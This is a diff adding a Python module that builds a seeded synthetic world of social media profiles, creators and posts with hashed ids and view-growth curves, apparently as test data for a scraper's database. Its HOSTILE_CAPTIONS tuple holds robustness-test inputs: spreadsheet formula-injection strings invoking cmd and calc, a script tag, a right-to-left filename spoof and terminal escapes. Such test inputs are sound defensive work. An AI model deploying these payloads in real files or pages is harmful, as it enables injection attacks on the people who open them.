@@ -1,0 +1,449 @@
+"""The seeded world: which profiles and posts exist, and how each of them grows.
+
+Everything follows from the seed, the sizes and the starting instant, by hashing, so that a row costs a hash or two and
+no generator state. The same post (platform and external id) has the same growth and caption however it is
+tracked. Rows come out in the shape of the store's tables; keeping them is the store's affair.
+"""
+
+from __future__ import annotations
+
+import hashlib
+import struct
+from collections.abc import Iterator
+from typing import Final, NamedTuple
+
+from .clock import DAY, HOUR
+from .curve import UNIT, Curve, share, views_at
+
+PLATFORMS: Final = ("instagram", "tiktok")
+INSTAGRAM: Final = 0
+TIKTOK: Final = 1
+#: What a time or a figure is stored as while it is not known.
+UNKNOWN: Final = -1
+
+_FIRST = (
+    "north",
+    "blue",
+    "little",
+    "urban",
+    "wild",
+    "slow",
+    "golden",
+    "paper",
+    "salt",
+    "night",
+    "open",
+    "tiny",
+)
+_SECOND = (
+    "kitchen",
+    "studio",
+    "trail",
+    "garden",
+    "loops",
+    "bakery",
+    "frames",
+    "lab",
+    "runner",
+    "atelier",
+    "club",
+)
+_TOPICS = ("morning routine", "sourdough", "city walk", "new drop", "behind the scenes", "five tips", "small space",
+           "first try", "duet", "unboxing", "street food", "repair", "one pan dinner", "night ride")  # fmt: skip
+_TAILS = (
+    "",
+    " 🎉",
+    " #fyp",
+    " – part 2",
+    " 🔥🔥",
+    " (sound on)",
+    " #reels #daily",
+    " ✨",
+    "!",
+    " | link in bio",
+)
+_CATEGORIES = ("tech", "food", "fashion", "fitness", "travel", None)
+
+#: Captions that are legal and that careless programs choke on: formulas, markup, control characters, scripts.
+HOSTILE_CAPTIONS: Final = (
+    '=HYPERLINK("https://example.com/?leak="&A1,"prize")',
+    "+1 for this [/b] [link=https://example.com]click[/link]",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "<script>alert('caption')</script><b>bold</b> & \"quotes\"",
+    "first line\nsecond line\r\nthird\tline",
+    "مرحبا بالعالم – وصفة اليوم",
+    "שלום \u202etxt.exe\u202c עולם",
+    "👩\u200d👩\u200d👧\u200d👦 family 🏳️\u200d🌈 day",
+    "\u001b[31mred\u001b[0m and a bell \u0007",
+    "zero\u200bwidth, e\u0301 combining, ｆｕｌｌ ｗｉｄｔｈ, İstanbul ß",
+    "-2+3+cmd, \"a\",'b';c",
+    "日本語のキャプション、とても長い" * 8,
+)
+
+# A post's place in its list decides its state, so that every world of 16 posts has each of them.
+_STATES: Final = tuple(
+    {3: "never", 7: "single", 11: "young", 13: "gone", 15: "paused"}.get(i, "normal")
+    for i in range(16)
+)
+# A multiple of the states, at the place of a normal one.
+_BREAKOUT_EVERY: Final = 48
+_BREAKOUT_AT: Final = 5
+_TWIN_EVERY: Final = 20
+
+
+class PostRow(NamedTuple):
+    """A row of a posts table: see `store` for the columns."""
+
+    n: int
+    id: str
+    platform: int
+    external_id: str
+    account: int | None
+    author: str
+    caption: str
+    is_active: int
+    is_unavailable: int
+    scrape_interval: int
+    metadata: str | None
+    added_at: int
+    updated_at: int
+    first_scrape: int
+    last_scrape: int
+    next_refresh: int | None
+    create_time: int
+    view_count: int
+    like_count: int
+    play_count: int
+    published: int
+    ceiling: int
+    half_life: int
+    boost: int
+    boost_at: int
+    boost_half: int
+    like_rate: int
+    comment_rate: int
+    share_rate: int
+    save_rate: int
+    play_rate: int
+
+    @property
+    def curve(self) -> Curve:
+        """The growth of the post: the last columns of the row."""
+        return Curve(*(getattr(self, name) for name in Curve._fields))
+
+
+class AccountRow(NamedTuple):
+    """A row of the accounts table."""
+
+    n: int
+    id: str
+    platform: int
+    username: str
+    category: str | None
+    creator: int | None
+    is_active: int
+    is_unavailable: int
+    is_verified: int
+    scrape_interval: str
+    refresh_every: int
+    added_at: int
+    first_scrape: int
+    last_scrape: int
+    next_refresh: int | None
+    follower_base: int
+    follower_daily: int
+    follower_count: int
+    following_count: int
+    next_post_at: int
+    post_gap: int
+
+
+class CreatorRow(NamedTuple):
+    """A row of the creators table."""
+
+    n: int
+    id: str
+    name: str
+    is_active: int
+    metadata: str | None
+
+
+class Traits(NamedTuple):
+    """What a post is by nature, however it is tracked."""
+
+    caption: str
+    curve: Curve
+
+
+def _digest(text: str, size: int) -> bytes:
+    return hashlib.blake2b(text.encode("utf-8", "surrogatepass"), digest_size=size).digest()
+
+
+def _uuid(raw: bytes) -> str:
+    h = raw.hex()
+    return f"{h[:8]}-{h[8:12]}-4{h[13:16]}-{'89ab'[raw[8] & 3]}{h[17:20]}-{h[20:32]}"
+
+
+def platform_account_id(seed: int, platform: int, username: str) -> str:
+    """The platform-wide id of a profile; known for profiles that are not tracked, too."""
+    raw = _digest(f"{seed}:author:{platform}:{username.casefold()}", 8)
+    return str(10**9 + int.from_bytes(raw, "big") % 10**16)
+
+
+def follower_count(base: int, daily: int, added_at: int, instant: int) -> int:
+    """Followers of a profile at an instant; a straight line is enough here."""
+    return max(0, base + daily * (instant - added_at) // DAY)
+
+
+class World:
+    """The world of one seed, as it stands at ``now`` (epoch seconds)."""
+
+    def __init__(
+        self, seed: int, now: int, accounts: int, account_videos: int, videos: int
+    ) -> None:
+        if min(accounts, account_videos, videos) < 0:
+            raise ValueError("the numbers of accounts and videos must not be negative")
+        self.seed = seed
+        self.now = now
+        self.account_count = accounts
+        self.account_video_count = account_videos if accounts else 0
+        self.video_count = videos
+
+    def new_id(self, kind: str, n: int) -> str:
+        """The UUID of the n-th row of a kind."""
+        return _uuid(_digest(f"{self.seed}:{kind}:{n}", 16))
+
+    def traits(self, platform: int, external_id: str, published: int) -> Traits:
+        """Caption and growth of a post, without a late rise."""
+        raw = _digest(f"{self.seed}:post:{platform}:{external_id}", 32)
+        a, b, c, d, e, f, g, h = struct.unpack(">8I", raw)
+        step = 500 << (a % 10)
+        if h % 11 == 0:
+            caption = HOSTILE_CAPTIONS[g % len(HOSTILE_CAPTIONS)]
+        else:
+            caption = f"{_TOPICS[f % len(_TOPICS)]} {g % 900 + 1}{_TAILS[h % len(_TAILS)]}"
+        return Traits(
+            caption,
+            Curve(
+                published=published,
+                ceiling=step + b % step,
+                half_life=DAY // 2 + c % (6 * DAY),
+                boost=0,
+                boost_at=0,
+                boost_half=1,
+                like_rate=300 + d % 900,
+                comment_rate=10 + e % 140,
+                share_rate=5 + f % 115,
+                save_rate=10 + g % 190,
+                play_rate=UNIT if platform == TIKTOK else UNIT + h % 4000,
+            ),
+        )
+
+    def fresh_post_age(self, platform: int, external_id: str) -> int:
+        """How long ago, in seconds, a post was published that nobody tracked before."""
+        raw = _digest(f"{self.seed}:age:{platform}:{external_id}", 4)
+        return DAY + int.from_bytes(raw, "big") % (30 * DAY)
+
+    def new_external_id(self, platform: int, kind: str, n: int) -> str:
+        """A numeric id of the length the platforms use, unique per kind and row."""
+        raw = int.from_bytes(_digest(f"{self.seed}:external:{kind}:{n}", 8), "big")
+        return _external_id(platform, raw, n)
+
+    def account(self, n: int, platform: int, username: str, added_at: int) -> AccountRow:
+        """A profile that was just taken up and not refreshed yet."""
+        raw = _digest(f"{self.seed}:profile:{platform}:{username.casefold()}", 16)
+        a, b, c, d = struct.unpack(">4I", raw)
+        gap = DAY + c % (4 * DAY)
+        return AccountRow(
+            n=n,
+            id=self.new_id("account", n),
+            platform=platform,
+            username=username,
+            category=None,
+            creator=None,
+            is_active=1,
+            is_unavailable=0,
+            is_verified=int(a % 7 == 0),
+            scrape_interval="24",
+            refresh_every=DAY,
+            added_at=added_at,
+            first_scrape=UNKNOWN,
+            last_scrape=UNKNOWN,
+            next_refresh=None,
+            follower_base=(800 << (a % 11)) + b % 800,
+            follower_daily=d % 900,
+            follower_count=0,
+            following_count=b % 1500,
+            next_post_at=added_at - 12 * gap,
+            post_gap=gap,
+        )
+
+    def accounts(self) -> Iterator[AccountRow]:
+        """The profiles tracked from the start."""
+        creators = self.creator_count
+        for n in range(1, self.account_count + 1):
+            a, b, c, d = struct.unpack(">4I", _digest(f"{self.seed}:account-times:{n}", 16))
+            platform = n % 2
+            name = f"{_FIRST[a % len(_FIRST)]}{'._'[b % 2]}{_SECOND[c % len(_SECOND)]}{n}"
+            added = self.now - 60 * DAY - d % (120 * DAY)
+            row = self.account(n, platform, name, added)
+            paused = n % 13 == 9
+            last = self.now - 300 - c % (21 * HOUR)
+            if paused:
+                last -= 4 * DAY
+            yield row._replace(
+                category=_CATEGORIES[a % len(_CATEGORIES)],
+                creator=(n % creators) + 1 if creators and n % 5 else None,
+                is_active=0 if paused else 1,
+                first_scrape=added + 2,
+                last_scrape=last,
+                next_refresh=None if paused else last + DAY,
+                follower_count=follower_count(row.follower_base, row.follower_daily, added, last),
+                next_post_at=self.now + DAY + b % (2 * DAY),
+            )
+
+    @property
+    def creator_count(self) -> int:
+        """How many creators exist from the start."""
+        return self.account_count // 5
+
+    def creators(self) -> Iterator[CreatorRow]:
+        """The creators that exist from the start; every seventh is archived."""
+        for n in range(1, self.creator_count + 1):
+            a, b = struct.unpack(">2I", _digest(f"{self.seed}:creator-name:{n}", 8))
+            name = f"{_FIRST[a % len(_FIRST)]} {_SECOND[b % len(_SECOND)]} {n}".title()
+            metadata = '{"region": "emea"}' if n % 3 == 0 else None
+            yield CreatorRow(n, self.new_id("creator", n), name, int(n % 7 != 0), metadata)
+
+    def account_videos(self, accounts: list[AccountRow]) -> Iterator[PostRow]:
+        """The posts found through the tracked profiles, refreshed whenever their profile is."""
+        for i in range(self.account_video_count):
+            yield self._account_video(i, accounts)
+
+    def videos(self, accounts: list[AccountRow]) -> Iterator[PostRow]:
+        """The posts tracked one by one; some of them are also found through a profile."""
+        for i in range(self.video_count):
+            twin = i // _TWIN_EVERY
+            if (
+                i % _TWIN_EVERY == 8
+                and twin < self.account_video_count
+                and _STATES[twin % len(_STATES)] == "normal"
+            ):
+                yield self._twin(i + 1, self._account_video(twin, accounts))
+            else:
+                yield self._video(i)
+
+    def _account_video(self, i: int, accounts: list[AccountRow]) -> PostRow:
+        cycle, place = divmod(i, len(accounts))
+        account = accounts[place]
+        # Even rows are Instagram's, odd ones TikTok's, and each platform counts from 1: the internal ids of the
+        # two overlap, as they do in the real API.
+        of_platform = (len(accounts) + account.platform) // 2
+        ordinal = cycle * of_platform + (account.n + account.platform) // 2
+        n = 2 * ordinal + account.platform
+        raw = _digest(f"{self.seed}:account_video:{n}", 48)
+        row = self._post(n, i, raw, account.platform, 24, account.last_scrape, account.username)
+        active = row.is_active if account.is_active else 0
+        return row._replace(account=account.n, is_active=active, next_refresh=None)
+
+    def _video(self, i: int) -> PostRow:
+        n = i + 1
+        raw = _digest(f"{self.seed}:video:{n}", 48)
+        a, b, c, d = struct.unpack_from(">4I", raw, 32)
+        hours = (6, 12, 24, 24, 48, 168)[a % 6]
+        newest = self.now - 300 - b % ((hours - 2) * HOUR)
+        author = f"{_FIRST[c % len(_FIRST)]}_{_SECOND[d % len(_SECOND)]}_{c % 997}"
+        row = self._post(n, i, raw, i % 2, hours, newest, author)
+        return row._replace(metadata='{"campaign": "spring"}') if a % 9 == 0 else row
+
+    def _twin(self, n: int, post: PostRow) -> PostRow:
+        raw = _digest(f"{self.seed}:video:{n}", 24)
+        a, b = struct.unpack_from(">2I", raw, 16)
+        last = self.now - 300 - a % (21 * HOUR)
+        first = max(post.published + HOUR, last - 8 * DAY - b % (20 * DAY))
+        views = views_at(post.curve, last)
+        return post._replace(
+            n=n,
+            id=_uuid(raw[:16]),
+            is_active=1,
+            added_at=first - 2,
+            updated_at=last,
+            first_scrape=first,
+            last_scrape=last,
+            next_refresh=last + DAY,
+            view_count=views,
+            like_count=share(views, post.like_rate),
+            play_count=share(views, post.play_rate),
+        )
+
+    def _post(
+        self, n: int, i: int, raw: bytes, platform: int, hours: int, newest: int, author: str
+    ) -> PostRow:
+        """A post in the state that its place in the list gives it."""
+        draw, a, b = struct.unpack_from(">Q2I", raw, 16)
+        state = _STATES[i % len(_STATES)]
+        breakout = i % _BREAKOUT_EVERY == _BREAKOUT_AT
+        last = newest
+        if state == "gone":
+            last -= 10 * DAY + a % (10 * DAY)
+        elif state == "paused":
+            last -= 3 * DAY + a % DAY
+        first = last
+        if state == "young":
+            first -= DAY + a % (5 * DAY)
+        elif breakout:
+            first -= 35 * DAY + a % (40 * DAY)
+        elif state != "single":
+            first -= 8 * DAY + a % (80 * DAY)
+        added = first - 2
+        published = added - HOUR - b % (20 * DAY)
+        external_id = _external_id(platform, draw, n)
+        caption, curve = self.traits(platform, external_id, published)
+        if breakout:
+            curve = curve._replace(
+                boost=1_500_000 + a % 4_000_000,
+                boost_at=last - 2 * DAY - b % (3 * DAY),
+                boost_half=6 * HOUR + b % (12 * HOUR),
+            )
+        known = state != "never"
+        if not known:
+            first = last = UNKNOWN
+        views = views_at(curve, last) if known else UNKNOWN
+        return PostRow(
+            n,
+            _uuid(raw[:16]),
+            platform,
+            external_id,
+            None,
+            author,
+            caption,
+            int(state not in ("never", "paused")),
+            int(state == "gone"),
+            hours,
+            None,
+            added,
+            max(added, last),
+            first,
+            last,
+            last + hours * HOUR if state not in ("never", "paused", "gone") else None,
+            published if known else UNKNOWN,
+            views,
+            share(views, curve.like_rate) if known else UNKNOWN,
+            share(views, curve.play_rate) if known else UNKNOWN,
+            *curve,
+        )
+
+
+def _external_id(platform: int, draw: int, n: int) -> str:
+    lead = (3, 7)[platform] * 10**18
+    return str(lead + draw % 4 * 10**17 + (draw >> 8) % 10**9 * 10**8 + n % 10**8)
+
+
+def shortcode(external_id: str) -> str:
+    """The URL part of an Instagram post: its numeric id in base 64."""
+    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
+    number, code = int(external_id), ""
+    while number:
+        number, digit = divmod(number, 64)
+        code = alphabet[digit] + code
+    return code or "A"
